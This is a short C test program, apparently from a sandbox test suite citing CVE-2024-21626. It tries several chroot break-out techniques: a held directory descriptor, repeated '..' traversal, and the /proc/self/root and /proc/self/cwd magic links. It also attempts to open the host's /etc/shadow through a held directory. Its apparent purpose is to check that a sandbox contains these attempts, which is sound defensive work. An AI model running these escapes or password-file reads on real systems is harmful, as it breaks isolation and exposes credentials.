/* B18: out by a held directory, by ".." and by magic links; source: the chroot break-out, CVE-2024-21626 */
#include "escape.h"

/* inside tells whether a descriptor is the root that a program sees. */
static void where(const char *how, int fd)
{
	struct stat got, root;
	if (fd < 0 || fstat(fd, &got) || stat("/", &root)) {
		say(how, -1);
		return;
	}
	printf("%s: %s\n", how, got.st_dev == root.st_dev && got.st_ino == root.st_ino ? "own root" : "OUTSIDE");
	fflush(stdout);
}

int main(void)
{
	int held = open("/workspace", O_RDONLY | O_DIRECTORY);
	mkdir("/workspace/jail", 0755);
	TRYAS("chroot to leave it by a held directory", chroot("/workspace/jail"));
	fchdir(held);
	for (int i = 0; i < 100; i++)
		if (chdir(".."))
			return 2;
	where("a hundred times up", open(".", O_RDONLY));
	where("up from a held directory", openat(held, "../../../../../..", O_RDONLY));
	where("up from /proc/self/root", open("/proc/self/root/../..", O_RDONLY));
	where("up from /proc/self/cwd", open("/proc/self/cwd/../../..", O_RDONLY));
	where("up from the root of the mounts", open("/dev/shm/../../..", O_RDONLY));
	/* below a mount: what the mount covers is not seen */
	TRYAS("the workspace's own tmpfs", open("/workspace/../workspace/shm", O_RDONLY));
	TRYAS("the host's password file, from a held directory", openat(held, "../../../../etc/shadow", O_RDONLY));
	TRYAS("the root of the cell's staging", open("/s", O_RDONLY));
	TRYAS("the root before the exchange", open("/n", O_RDONLY));
	return 0;
}
